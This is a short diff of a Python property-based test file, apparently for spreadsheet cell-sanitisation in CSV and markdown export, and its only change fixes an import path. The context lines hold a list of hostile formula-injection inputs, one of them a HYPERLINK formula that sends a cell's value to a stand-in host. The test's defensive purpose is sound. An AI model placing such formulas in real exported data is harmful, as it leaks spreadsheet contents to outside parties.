@@ -11,7 +11,7 @@ import io
 
 from hypothesis import given, strategies as st
 
-from pytest_assistant_eval.tables.cell_safety import FORMULA_STARTS
+from pytest_assistant_eval.tabular.cell_safety import FORMULA_STARTS
 from pytest_assistant_eval.tabular.formats import Column, DataTable, to_csv, to_markdown
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1",
